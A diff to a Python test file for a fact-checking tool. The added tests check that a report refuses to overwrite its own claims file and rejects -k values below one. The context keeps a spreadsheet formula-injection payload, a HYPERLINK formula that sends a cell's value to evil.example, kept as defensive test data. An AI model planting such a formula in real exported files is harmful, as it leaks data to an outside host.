@@ -6,8 +6,13 @@ from __future__ import annotations
 import csv
 from pathlib import Path
 
+import pytest
+
+from factcheck.errors import BadInputError
+
 from factcheck.report.run import run_report
 from factcheck.settings import Settings
+from tests.test_hostile_input import claims_csv, run_main  # noqa: F401 - a fixture
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
@@ -67,3 +72,35 @@ def test_a_claim_speaker_or_id_that_is_not_text_is_a_bad_row(tmp_path: Path):
         (4, "field 'claim' is an object, not text"),
         (5, "field 'speaker' is an object, not text"), (6, "field 'id' is a list, not text")]
     assert (rows[-1].id, rows[-1].claim, rows[-1].speaker) == ("7", "Fine", "Ann")
+
+
+# --- defect 13: report arguments ----------------------------------------------------------------
+
+
+def test_a_report_never_overwrites_its_claims_file(tmp_path: Path, claims_csv: Path, capsys):
+    index = str(tmp_path / "index")
+    (tmp_path / "link.csv").symlink_to(claims_csv)
+    for out in (claims_csv, tmp_path / "." / "claims.csv", tmp_path / "link.csv"):
+        status, line = run_main(capsys, "report", str(claims_csv), "--out", str(out),
+                                "--index", index)
+        assert status == 2
+        assert line == (f"factcheck: {out}: is the claims file itself; give --out another "
+                        "name")
+    assert claims_csv.read_text(encoding="utf-8") == "claim\nThe budget will rise\n"
+
+
+def test_run_report_refuses_to_write_over_its_claims(tmp_path: Path, claims_csv: Path):
+    with pytest.raises(BadInputError, match="is the claims file itself"):
+        run_report(claims_csv, claims_csv, UnsupportedSearcher())
+
+
+@pytest.mark.parametrize("k", ["0", "-3"])
+@pytest.mark.parametrize("command", ["search", "report"])
+def test_k_below_one_is_refused_by_search_and_report_alike(tmp_path: Path, claims_csv: Path,
+                                                           capsys, command: str, k: str):
+    first = "The budget will rise" if command == "search" else str(claims_csv)
+    out = ["--out", str(tmp_path / "out.json")] if command == "report" else []
+    status, line = run_main(capsys, command, first, *out, "-k", k, "--index",
+                            str(tmp_path / "index"))
+    assert status == 2 and line == f"factcheck: -k must be a whole number of at least 1 (got {k})"
+    assert not (tmp_path / "out.json").exists()
